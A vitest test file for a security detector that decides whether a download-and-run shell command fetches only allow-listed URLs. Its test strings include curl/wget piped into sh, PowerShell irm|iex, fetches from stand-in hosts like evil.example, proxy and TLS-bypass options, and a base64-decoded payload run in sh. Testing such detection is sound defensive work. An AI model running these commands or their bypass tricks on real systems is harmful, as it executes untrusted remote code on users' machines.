import { beforeAll, describe, expect, it } from "vitest";
import { createNodeDetector, type Detector } from "../../../src/host/node.js";
import type { Finding } from "../../../src/core/index.js";
import { isTrusted } from "../../../src/cli/suppress/trusted-commands.js";

const TRUSTED = new Set(["https://get.example/i.sh", "https://get.example/i.sh?v=1&x=2"]);
let detector: Detector;
beforeAll(async () => {
  detector = await createNodeDetector({ profile: "extended" });
});

/** Returns for each finding of a text whether it is trusted. Fails if there are no findings. */
function trusted(text: string, format?: string): boolean[] {
  const { findings } = detector.detect(text, format === undefined ? {} : { format });
  expect(findings.length, text).toBeGreaterThan(0);
  return findings.map((finding) => isTrusted(finding, text, TRUSTED));
}

describe("a command in which every URL is trusted", () => {
  it.each([
    "curl https://get.example/i.sh | sh",
    "curl -fsSL https://get.example/i.sh | sudo bash",
    "curl -fsSL 'https://get.example/i.sh' | sh -s -- --yes --dir=/opt/x",
    'curl --proto "=https" --tlsv1.2 -sSf https://get.example/i.sh | sh',
    "curl -sSL -m 20 --retry 3 https://get.example/i.sh | tee install.log | bash",
    "curl -fsSL -o - https://get.example/i.sh | sh",
    "wget -qO- https://get.example/i.sh | sh",
    "wget -q -O - https://get.example/i.sh | sudo -E bash -",
    'sh -c "$(curl -fsSL https://get.example/i.sh)"',
    'eval "`wget -qO- https://get.example/i.sh`"',
    "bash <(curl -s https://get.example/i.sh)",
    "bash < <(curl -s https://get.example/i.sh)",
    'bash <<< "$(curl -s https://get.example/i.sh)"',
    "curl 'https://get.example/i.sh?v=1&x=2' | sh",
    "curl -fsSL \\\n  https://get.example/i.sh \\\n  | sh",
    "cd /tmp && curl https://get.example/i.sh | sh && ./bin/tool --version",
    "Run `curl https://get.example/i.sh | sh`, or read https://docs.example first.",
  ])("%s", (text) => {
    expect(trusted(text)).not.toContain(false);
  });
});

describe("a trusted command that any rule finds", () => {
  const finding = (text: string): Finding => ({
    rule: "x/y",
    level: "finding",
    span: [0, text.length],
    text,
    snippet: { kind: "fence", language: "shell", tag: null },
    trace: [],
  });
  it.each<[string, boolean]>([
    ["irm https://get.example/i.sh | iex", true],
    ["iwr -useb https://get.example/i.sh | iex", true],
    ["iex (irm https://get.example/i.sh)", true],
    ["irm -Proxy http://evil https://get.example/i.sh | iex", false],
    ["irm https://get.example/i.sh -OutFile x | iex", false],
    ["deno run -A https://get.example/i.sh", true],
    ["deno run --import-map=https://evil.example https://get.example/i.sh", false],
    ["npx evil.example/x https://get.example/i.sh", false],
    ["deno run -A ./local.ts", false],
  ])("%s: %j", (text, expected) => {
    expect(isTrusted(finding(text), text, TRUSTED)).toBe(expected);
  });
});

describe("a command that may fetch another URL", () => {
  it.each([
    // another URL, or a similar one
    "curl https://evil.example/i.sh | sh",
    "curl https://get.example/i.sh https://evil.example | sh",
    "curl https://get.example/i.sh evil.example | sh",
    "curl https://get.example/i.sh evil | sh",
    "curl https://get.example/i.sh.evil.example | sh",
    "curl https://get.example/i.sh/../evil | sh",
    "curl https://get.example/i.sh?x | sh",
    "curl https://get.example/i.sh#x | sh",
    "curl https://get.example/I.sh | sh",
    "curl http://get.example/i.sh | sh",
    "curl https://get.example/i.sh@evil.example/ | sh",
    "curl https://user@get.example/i.sh | sh",
    "curl https://get.example/{i.sh,evil} | sh",
    // an option that changes which server is reached
    "curl -x evil.example:8080 https://get.example/i.sh | sh",
    "curl --proxy=http://evil https://get.example/i.sh | sh",
    "curl -x evil https://get.example/i.sh | sh",
    "curl --resolve get.example:443:6.6.6.6 https://get.example/i.sh | sh",
    "curl --connect-to ::evil https://get.example/i.sh | sh",
    "curl -k https://get.example/i.sh | sh",
    "curl -fsSLk https://get.example/i.sh | sh",
    "curl --insecure https://get.example/i.sh | sh",
    "curl -H Host:evil https://get.example/i.sh | sh",
    "wget --no-check-certificate -qO- https://get.example/i.sh | sh",
    "wget -e https_proxy=evil -qO- https://get.example/i.sh | sh",
    "wget -i list -qO- https://get.example/i.sh | sh",
    "https_proxy=http://evil.example curl https://get.example/i.sh | sh",
    "https_proxy=evil.example:80 curl https://get.example/i.sh | sh",
    "ALL_PROXY=localhost:80 curl https://get.example/i.sh | sh",
    // words whose values are known only at run time
    'curl https://get.example/i.sh "$EXTRA" | sh',
    "curl https://get.example/i.sh $EXTRA | sh",
    "curl https://get.example/i.sh $(cat more) | sh",
    "curl https://$HOST/i.sh | sh",
    "curl https://get.example/i.sh `cat more` | sh",
    // a second program, or another source of it
    "{ curl https://get.example/i.sh; curl $EVIL; } | sh",
    "(curl https://get.example/i.sh; cat evil) | sh",
    "bash <(curl https://get.example/i.sh; curl evil)",
    'bash -c "$(curl https://get.example/i.sh; curl evil)"',
    "curl https://get.example/i.sh | cat - <(curl evil) | sh",
    "curl https://get.example/i.sh | xargs curl evil | sh",
    "curl https://get.example/i.sh | xargs curl -s | sh",
    "curl https://get.example/i.sh | sh -s -- --mirror https://evil.example",
    "curl https://get.example/i.sh | sh && curl https://evil.example | sh",
    "curl https://get.example/i.sh | sed s,a,b, | sh -s -- evil.example/x",
    // a file that was fetched before
    'S=$(curl https://evil.example)\neval "$S" https://get.example/i.sh',
  ])("%s", (text) => {
    expect(trusted(text, "bash")).toContain(false);
  });

  it("a decoded payload is never trusted", () => {
    expect(trusted("echo aGk= | base64 -d | sh # https://get.example/i.sh", "bash")).toEqual([
      false,
    ]);
  });

  it("a trusted URL beside a command does not make the command trusted", () => {
    expect(trusted("curl evil | sh # https://get.example/i.sh", "bash")).toEqual([false]);
  });
});
